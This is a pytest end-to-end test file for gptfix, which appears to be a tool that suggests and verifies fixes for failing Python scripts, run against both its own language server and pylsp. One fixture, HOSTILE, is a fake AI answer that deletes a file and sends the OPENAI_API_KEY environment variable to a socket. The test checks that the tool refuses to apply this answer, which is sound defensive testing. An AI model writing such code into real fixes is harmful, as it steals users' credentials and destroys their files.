"""The same scenarios, the same test code, in both language servers: `gptfix lsp` and pylsp.

Each test runs once against `gptfix lsp` and once against real pylsp with the gptfix
plugin, both driven over stdio by the same pytest-lsp client with Neovim's captured
capabilities. What a user sees must not depend on the editor's server: the
diagnostic, the quick fix and its verification state, the edit, the rerun, the
recipe picker, "Fix with AI" against a local OpenAI-compatible server, and the
errors for bad arguments.
"""

from __future__ import annotations

import asyncio
import os
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from e2e_helpers import (
    SERVER,
    TYPO_SCRIPT,
    action_command,
    apply_text_edits,
    code_actions,
    command,
    edits_for,
    gptfix_diagnostics,
    llm_env,
    open_doc,
    start_client,
    start_session,
    wait_for,
)
from lsprotocol import types
from pytest_lsp import LanguageClient

from gptfix.service.table import EDITOR_IDS, PYLSP_IDS

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "llm"))
from fake_openai import FakeOpenAI, Reply  # noqa: E402

pytestmark = [pytest.mark.asyncio, pytest.mark.e2e]

PYLSP = [str(Path(sys.executable).with_name("pylsp"))]
SCRIPT = TYPO_SCRIPT
FIXED = SCRIPT.replace("sum(dat)", "sum(data)")
#: an answer that fixes the same bug another way (so it cannot come from the rules)
ANSWER = """`dat` is never defined; the total is over the loaded data.

```python
<<<<<<< SEARCH
total = sum(dat)
=======
total = sum(load())
>>>>>>> REPLACE
```
"""
KEY = "sk-handed-over-by-the-editor-0123456789"


@dataclass
class Shell:
    name: str
    client: LanguageClient
    closed: bool = False  #: the test shut the server down itself


def _init_options(name: str, options: dict[str, Any]) -> dict[str, Any]:
    """The same gptfix settings, where each server reads them."""
    if name == "pylsp":
        return {"pylsp": {"plugins": {"gptfix": options}}}
    return options


@pytest.fixture
def fake_llm() -> AsyncIterator[FakeOpenAI]:
    server = FakeOpenAI(default=Reply(text=ANSWER)).start()
    yield server  # type: ignore[misc]
    server.stop()


@pytest_asyncio.fixture(params=["gptfix-lsp", "pylsp"])
async def shell(
    request: pytest.FixtureRequest, fake_llm: FakeOpenAI, tmp_path: Path
) -> AsyncIterator[Shell]:
    name = request.param
    client = await start_client(PYLSP if name == "pylsp" else SERVER, llm_env(tmp_path))
    options = {"runTimeout": 120, "baseUrl": fake_llm.base_url, "model": "fake-model"}
    client.init_result = await start_session(  # type: ignore[attr-defined]
        client, "neovim@v0.7.0", _init_options(name, options)
    )
    shell = Shell(name, client)
    yield shell
    if not shell.closed:
        await client.shutdown_session()
    await client.stop()


def opened(client: LanguageClient, tmp_path: Path, text: str = SCRIPT) -> tuple[str, Path]:
    """The script written to disk and opened in the editor: (uri, path)."""
    script = tmp_path / "train.py"
    script.write_text(text)
    return open_doc(client, script), script


async def edit_of(client: LanguageClient, action: Any) -> types.WorkspaceEdit:
    """The action's edit: up front (pylsp) or on resolve (`gptfix lsp`)."""
    if action.edit is None:
        action = await client.code_action_resolve_async(action)
    assert action.edit is not None
    return action.edit


def change_document(client: LanguageClient, uri: str, path: Path, text: str, version: int) -> None:
    """What an editor does when the user accepts an edit and saves."""
    client.text_document_did_change(
        types.DidChangeTextDocumentParams(
            text_document=types.VersionedTextDocumentIdentifier(uri=uri, version=version),
            content_changes=[types.TextDocumentContentChangeWholeDocument(text=text)],
        )
    )
    path.write_text(text)
    client.text_document_did_save(
        types.DidSaveTextDocumentParams(text_document=types.TextDocumentIdentifier(uri=uri))
    )


async def test_both_servers_advertise_every_command_of_the_table(shell: Shell) -> None:
    caps = shell.client.init_result.capabilities  # type: ignore[attr-defined]
    ours = [c for c in caps.execute_command_provider.commands if c.startswith("gptfix.")]
    # pylsp has no notebook document sync: it offers all but the notebook commands
    assert sorted(ours) == sorted(PYLSP_IDS if shell.name == "pylsp" else EDITOR_IDS)


async def test_run_diagnostic_verified_fix_applied_rerun_succeeds(
    shell: Shell, tmp_path: Path
) -> None:
    client = shell.client
    uri, script = opened(client, tmp_path)

    result = await command(client, "gptfix.run", uri, {})
    assert result["status"] == "failed" and result["failure"]["type"] == "NameError"
    # published before the command answered, on the line of `sum(dat)`
    diags = gptfix_diagnostics(client, uri)
    assert [d.range.start.line for d in diags] == [5]

    # the menu opened at once already lists the candidate fix, with its state
    first = await code_actions(client, uri, diags)
    fix_titles = [a.title for a in first if "`data`" in a.title]
    assert fix_titles, [a.title for a in first]
    assert any(s in fix_titles[0] for s in ("[verifying…", "[verified")), fix_titles
    assert any("Show AI context" in a.title for a in first)

    fix = None
    loop = asyncio.get_running_loop()
    end = loop.time() + 60
    while fix is None:
        assert loop.time() < end, [a.title for a in await code_actions(client, uri, diags)]
        actions = await code_actions(client, uri, gptfix_diagnostics(client, uri))
        fix = next((a for a in actions if "`data`" in a.title and "[verified" in a.title), None)
        if fix is None:
            await asyncio.sleep(0.3)
    edits, _ = edits_for(await edit_of(client, fix), uri)
    fixed = apply_text_edits(SCRIPT, edits)
    assert fixed == FIXED

    change_document(client, uri, script, fixed, 2)
    rerun = await command(client, "gptfix.run", uri, {})
    assert rerun["status"] == "succeeded", rerun
    await wait_for(lambda: not gptfix_diagnostics(client, uri), 10)


async def test_fix_with_ai_against_a_local_endpoint(
    shell: Shell, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    client = shell.client
    assert (await command(client, "gptfix.setApiKey", KEY))["configured"] is True
    uri, script = opened(client, tmp_path)
    await command(client, "gptfix.run", uri, {})
    diags = gptfix_diagnostics(client, uri)
    ai = next(a for a in await code_actions(client, uri, diags) if "Fix with AI" in a.title)
    name, arguments = action_command(ai)
    assert name == "gptfix.fixWithAI"

    result = await command(client, name, *arguments)
    assert result["applied"] is True, result
    assert result["fix"]["verified"] is True
    (params,) = client.applied  # type: ignore[attr-defined]
    edits, _ = edits_for(params.edit, uri)
    assert apply_text_edits(SCRIPT, edits) == SCRIPT.replace("sum(dat)", "sum(load())")
    # the key went in the Authorization header only
    assert fake_llm.headers[0]["authorization"] == f"Bearer {KEY}"
    assert KEY not in str(fake_llm.requests[0])


HOSTILE = """`dat` is never defined. Replace the script with:

```python
import os
import socket

os.remove(os.path.join(os.path.dirname(os.path.abspath(__file__)), "notes.txt"))
socket.create_connection(("127.0.0.1", 9), timeout=1).sendall(os.environ["OPENAI_API_KEY"].encode())


def load():
    return [1, 2, 3]


data = load()
total = sum(data)
print("total", total)
```
"""


async def test_fix_with_ai_never_runs_or_applies_a_hostile_answer(
    shell: Shell, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    client = shell.client
    fake_llm.default = Reply(text=HOSTILE)
    assert (await command(client, "gptfix.setApiKey", KEY))["configured"] is True
    uri, script = opened(client, tmp_path)
    (tmp_path / "notes.txt").write_text("keep me\n")
    await command(client, "gptfix.run", uri, {})
    diags = gptfix_diagnostics(client, uri)
    ai = next(a for a in await code_actions(client, uri, diags) if "Fix with AI" in a.title)
    name, arguments = action_command(ai)

    result = await command(client, name, *arguments)
    assert fake_llm.requests, "the LLM was never asked"
    assert result["applied"] is False, result
    assert not client.applied  # type: ignore[attr-defined]
    assert "delete or move files" in str(result) and "use the network" in str(result), result
    assert script.read_text() == SCRIPT
    assert (tmp_path / "notes.txt").read_text() == "keep me\n"
    assert KEY not in str(fake_llm.requests)


BAD_ARGUMENTS = [
    ("gptfix.run", ["URI", "smoke"], "argument 2 (options) must be an object"),
    ("gptfix.fixLoop", ["URI", {"maxRounds": 0}], "maxRounds must be a positive integer"),
    ("gptfix.fixLoop", ["URI", {"maxRounds": "3"}], "maxRounds must be int"),
    ("gptfix.applyRecipe", ["URI"], "missing argument 2 (recipe)"),
    ("gptfix.loadLog", ["URI", {}], 'a log needs "path"'),
    ("gptfix.showContext", ["URI", {}], "no gptfix diagnostic for that"),
    ("gptfix.listRecipes", ["URI", 1, 2], "takes at most 1 argument(s), got 3"),
    ("gptfix.run", [], "missing argument 1 (uri)"),
]


@pytest.mark.parametrize(("name", "args", "message"), BAD_ARGUMENTS)
async def test_bad_arguments_get_the_same_error_in_both_servers(
    shell: Shell, tmp_path: Path, name: str, args: list[Any], message: str
) -> None:
    uri, _ = opened(shell.client, tmp_path)
    real = [uri if a == "URI" else a for a in args]
    with pytest.raises(Exception) as caught:
        await command(shell.client, name, *real)
    error = caught.value
    assert getattr(error, "code", None) == -32602, error
    assert f"{name}: " in str(error) and message in str(error), str(error)
    assert "Traceback" not in str(getattr(error, "data", "") or "")
    # the server is still up
    assert (await command(shell.client, "gptfix.setApiKey", None))["configured"] is False


@pytest.mark.tf
async def test_recipe_picker_lists_then_applies_a_verified_recipe(
    shell: Shell, scratch_fixture: Any
) -> None:
    client = shell.client
    script: Path = scratch_fixture("06-adam-lr-keyword")
    script.write_text((script.parent / "fixed.py").read_text())  # a script that trains
    text = script.read_text()
    uri = open_doc(client, script)
    catalog = await command(client, "gptfix.listRecipes", uri)
    lr = next(e for e in catalog if e["id"] == "lr-schedule")
    assert lr["lines"] and "line" in lr["where"]

    result = await command(client, "gptfix.applyRecipe", uri, "lr-schedule", {"kind": "cosine"})
    assert result["applied"] is True, result
    assert result["fix"]["verified"] is True
    (params,) = client.applied  # type: ignore[attr-defined]
    edits, _ = edits_for(params.edit, uri)
    patched = apply_text_edits(text, edits)
    assert "LearningRateScheduler" in patched and "cos" in patched
    compile(patched, str(script), "exec")


#: fails at once on `sum(dat)`; once fixed, it hangs (so verifying the fix is slow)
HANGING = """import os
import pathlib
import time

pathlib.Path(PIDS).joinpath(str(os.getpid())).touch()
data = [1, 2, 3]
total = sum(dat)
time.sleep(300)
"""


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    status = Path(f"/proc/{pid}/status")
    return not (status.exists() and "zombie" in status.read_text())


async def shut_down(shell: Shell) -> None:
    """shutdown answered without an error, then exit (as an editor closing does)."""
    shell.closed = True
    await asyncio.wait_for(shell.client.shutdown_async(None), 30)
    shell.client.exit(None)


SLEEPING = (
    "import os, pathlib, time\npathlib.Path('pid').write_text(str(os.getpid()))\ntime.sleep(600)\n"
)


async def test_cancelling_a_running_command_kills_its_script(shell: Shell, tmp_path: Path) -> None:
    """The client's $/cancelRequest stops a long command (pylsp too) and answers it."""
    client = shell.client
    script = tmp_path / "train.py"
    script.write_text(SLEEPING)
    uri = open_doc(client, script)
    params = types.ExecuteCommandParams(command="gptfix.run", arguments=[uri, {}])
    request = asyncio.ensure_future(
        client.protocol.send_request_async(
            types.WORKSPACE_EXECUTE_COMMAND, params, msg_id="run-to-cancel"
        )
    )
    await wait_for(lambda: (tmp_path / "pid").exists() and (tmp_path / "pid").read_text(), 60)
    pid = int((tmp_path / "pid").read_text())
    assert alive(pid) and not request.done()
    client.protocol.notify(types.CANCEL_REQUEST, types.CancelParams(id="run-to-cancel"))
    with pytest.raises(Exception, match="(?i)cancel"):
        await asyncio.wait_for(request, 20)
    await wait_for(lambda: not alive(pid), 10)
    # the server goes on serving
    assert (await command(client, "gptfix.setApiKey", None))["configured"] is False


async def test_shutdown_during_background_verification_leaves_nothing_behind(
    shell: Shell, tmp_path: Path
) -> None:
    client = shell.client
    script = tmp_path / "train.py"
    # the pid folder by absolute path: verification runs a working copy elsewhere
    script.write_text(HANGING.replace("PIDS", repr(str(tmp_path / "pids"))))
    (tmp_path / "pids").mkdir()
    uri = open_doc(client, script)
    result = await command(client, "gptfix.run", uri, {})
    assert result["failure"]["type"] == "NameError"
    # the fix is being verified: its run of the patched script has started (and hangs)
    await wait_for(lambda: len(list((tmp_path / "pids").iterdir())) >= 2, 60)
    await shut_down(shell)
    pids = [int(p.name) for p in (tmp_path / "pids").iterdir()]
    await wait_for(lambda: not any(alive(pid) for pid in pids), 15)
    # no patched copy left beside the script
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "__pycache__") == [
        "answers",
        "pids",
        "train.py",
    ] or sorted(p.name for p in tmp_path.iterdir() if p.name != "__pycache__") == [
        "pids",
        "train.py",
    ]


async def test_shutdown_during_fix_with_ai_is_answered_cleanly(
    shell: Shell, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    client = shell.client
    await command(client, "gptfix.setApiKey", KEY)
    uri, script = opened(client, tmp_path)
    await command(client, "gptfix.run", uri, {})
    fake_llm.replies.append(Reply(text=ANSWER, delay=5.0))
    pending = asyncio.ensure_future(
        command(client, "gptfix.fixWithAI", uri, gptfix_diagnostics(client, uri)[0])
    )
    await wait_for(lambda: fake_llm.requests, 30)
    await shut_down(shell)
    done, _ = await asyncio.wait([pending], timeout=15)
    if done:  # answered (cancelled or not applied), never an internal error
        exc = pending.exception()
        assert exc is None or "dictionary changed size" not in str(exc)
        assert exc is None or getattr(exc, "code", None) != -32603, exc
    else:
        pending.cancel()
    assert client.applied == []  # type: ignore[attr-defined]


async def test_fix_loop_writes_the_file_and_brings_the_buffer_along(
    shell: Shell, tmp_path: Path
) -> None:
    client = shell.client
    uri, script = opened(client, tmp_path)
    result = await command(client, "gptfix.fixLoop", uri, {"maxRounds": 2})
    assert result["status"] == "succeeded", result
    assert script.read_text() == FIXED  # written (with the undo journal)
    (params,) = client.applied  # type: ignore[attr-defined]
    edits, _ = edits_for(params.edit, uri)
    assert apply_text_edits(SCRIPT, edits) == FIXED
    assert not gptfix_diagnostics(client, uri)


ASSERTING = """data = [1, 2, 3]
assert len(data) == 4, 'four'
print("ok")
"""


def _answer(old: str, new: str) -> str:
    return (
        "The check does not match the data.\n\n```python\n<<<<<<< SEARCH\n"
        f"{old}\n=======\n{new}\n>>>>>>> REPLACE\n```\n"
    )


async def test_fix_loop_asks_the_llm_with_the_editors_key_also_the_second_time(
    shell: Shell, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    """No rule fixes it; the LLM's first fix fails, its second (told why) is written."""
    client = shell.client
    await command(client, "gptfix.setApiKey", KEY)
    four, five = "assert len(data) == 4, 'four'", "assert len(data) == 5, 'five'"
    fake_llm.replies = [  # the second answer edits the script as the first left it
        Reply(text=_answer(four, five)),
        Reply(text=_answer(five, "assert len(data) == 3, 'three'")),
    ]
    uri, script = opened(client, tmp_path, ASSERTING)
    result = await command(client, "gptfix.fixLoop", uri, {"maxRounds": 1})
    assert result["status"] == "succeeded", result
    assert "len(data) == 3" in script.read_text()
    assert len(fake_llm.requests) == 2
    assert [h["authorization"] for h in fake_llm.headers] == [f"Bearer {KEY}"] * 2
    assert "five" in str(fake_llm.requests[1])  # the second request shows where the first led
